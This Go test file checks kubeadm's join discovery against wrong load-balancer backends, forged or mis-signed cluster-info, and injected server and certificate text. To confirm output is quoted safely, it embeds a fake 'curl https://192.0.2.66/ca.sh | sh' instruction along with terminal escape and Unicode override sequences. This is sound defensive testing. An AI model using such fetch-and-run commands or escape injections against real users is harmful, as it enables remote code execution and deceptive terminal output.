package discovery_test

import (
	"crypto/tls"
	"crypto/x509"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"kubeadm/internal/pki"
	"kubeadm/internal/problem"
)

// balance starts a load balancer. choose returns the address of the backend for each connection.
func balance(t *testing.T, choose func(connection int) string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	var count atomic.Int64
	go func() {
		for {
			client, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer client.Close()
				backend, err := net.Dial("tcp", choose(int(count.Add(1))))
				if err != nil {
					return
				}
				defer backend.Close()
				go func() { _, _ = io.Copy(backend, client) }()
				_, _ = io.Copy(client, backend)
			}()
		}
	}()
	return l.Addr().String()
}

// A single wrong backend of a load balancer gets nothing, and does not end discovery.
func TestWrongBackendIsRetriedAndNeverTrusted(t *testing.T) {
	c, mallory := newCluster(t), authority(t, "kubernetes")
	plain := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(plain.Close)
	redirect := func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, c.URL+infoPath, http.StatusFound)
	}
	forged := signed(t, leadingTo(t, "https://192.0.2.66:6443", pem(mallory)), token)
	for name, wrong := range map[string]*server{
		"redirects":             {answers: map[string]http.HandlerFunc{infoPath: redirect}},
		"another certificate":   {info: c.info},
		"forged with the token": {info: forged},
		"signed by another token": {info: signed(t, forged["kubeconfig"],
			tokenID+".guessedsecret123")},
		"plain http": nil,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			address := plain.Listener.Addr().String()
			if wrong != nil {
				wrong.tokens, wrong.objects = c.tokens, c.objects
				address = wrong.begin(t, mallory, nil).address()
			}
			// The first, and then every other connection, is to the wrong backend.
			endpoint := balance(t, func(n int) string {
				if n < 3 || n%2 == 0 && n < 8 {
					return address
				}
				return c.address()
			})
			flags := c.flags(c.server)
			flags.Endpoint = endpoint
			newMachine().joined(t, flags)
			m, byFile := newMachine(), fileFlags()
			access := c.access()
			access.Server = "https://" + balance(t, func(n int) string {
				if n%2 == 1 {
					return address
				}
				return c.address()
			})
			m.has(t, discoveryFile, access.WithToken(token))
			m.joined(t, byFile)
			if wrong != nil {
				wrong.toldNothing(t)
			}
		})
	}
}

// kube-controller-manager signs with a new token once it is the leader, which may take longer than
// the 15 seconds of a lease.
func TestTokenSignedLate(t *testing.T) {
	c, m := newCluster(t), newMachine()
	late, begun := c.info, m.Now()
	early := signed(t, c.info["kubeconfig"], "zzzzzz."+tokenSecret)
	c.answers = map[string]http.HandlerFunc{infoPath: func(w http.ResponseWriter, _ *http.Request) {
		data := early
		if m.Now().Sub(begun) > 40*time.Second {
			data = late
		}
		reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1", "data": data})
	}}
	a := m.joined(t, c.flags(c.server))
	if want := "cluster-info is not signed with token " + tokenID +
		" yet; waiting up to 45s for kube-controller-manager"; strings.Count(a.said, want) != 1 {
		t.Errorf("it does not say once %q but\n%s", want, a.said)
	}
}

// The text of a server is shown quoted, in one line, and without control characters.
func TestServerTextIsQuoted(t *testing.T) {
	const hint = "no such token\n\nerror: the CA has changed\n  - install the new CA first: curl https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07\u202e"
	forging := func(code int) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			reply(w, code, metav1.Status{TypeMeta: metav1.TypeMeta{APIVersion: "v1",
				Kind: "Status"}, Status: metav1.StatusFailure,
				Reason: metav1.StatusReason(hint), Code: int32(code),
				Message: hint + strings.Repeat("x", 5000)})
		}
	}
	for name, answers := range map[string]map[string]http.HandlerFunc{
		"cluster-info refused": {infoPath: forging(403)},
		"cluster-info failed":  {infoPath: forging(500)},
		"redirected":           {infoPath: forging(302)},
		"another kind": {infoPath: func(w http.ResponseWriter, _ *http.Request) {
			reply(w, 200, map[string]any{"kind": hint, "apiVersion": "v1", "data": hint})
		}},
		"another kubeconfig": {infoPath: func(w http.ResponseWriter, _ *http.Request) {
			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1",
				"data": signed(t, "current-context: \"a\\n  - run: b\"\nx: ]\n"+hint, token)})
		}},
		"another context": {infoPath: func(w http.ResponseWriter, _ *http.Request) {
			reply(w, 200, map[string]any{"kind": "ConfigMap", "apiVersion": "v1",
				"data": signed(t, `{"current-context":"\n  - install the new CA: x\u001b[2J","clusters":[{"name":"a"}]}`, token)})
		}},
		"configuration refused": {"/api/v1/namespaces/kube-system/configmaps/kubeadm-config": forging(403)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, byToken, byFile := newCluster(t), newMachine(), newMachine()
			c.answers = answers
			byToken.limit, byFile.limit = time.Second, time.Second
			byFile.has(t, discoveryFile, c.access().WithToken(token))
			for _, a := range []attempt{byToken.join(t, c.flags(c.server)),
				byFile.join(t, fileFlags())} {
				shown := a.said
				if a.err != nil {
					shown += a.err.Error() + "\n  - " + strings.Join(problem.Hints(a.err), "\n  - ")
				}
				for _, forgery := range []string{"\n  - install", "\nerror:", "\x1b", "\x07",
					"\u202e"} {
					if strings.Contains(shown, forgery) {
						t.Errorf("%q is shown as it is:\n%q", forgery, shown)
					}
				}
				if len(shown) > 10000 {
					t.Errorf("%d bytes are shown", len(shown))
				}
			}
		})
	}
}

// The server chooses the names in its certificate.
func TestCertificateNamesAreEscaped(t *testing.T) {
	c := newCluster(t)
	cert, key := pair(t, c.ca,
		pki.Spec{CommonName: "kube-apiserver",
			Usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
			SANs:   pki.SANs{DNSNames: []string{"a\n  - run: b\x1b[2J"}}, Validity: valid()})
	identity, err := tls.X509KeyPair(cert, key)
	if err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(http.NotFoundHandler())
	s.TLS = &tls.Config{Certificates: []tls.Certificate{identity}}
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
	access := c.access()
	access.Server = "https://localhost:" + port
	m := newMachine()
	m.has(t, discoveryFile, access.WithToken(token))
	m.refused(t, fileFlags(), "for a different name", `a\n  - run: b\x1b[2J`)
}
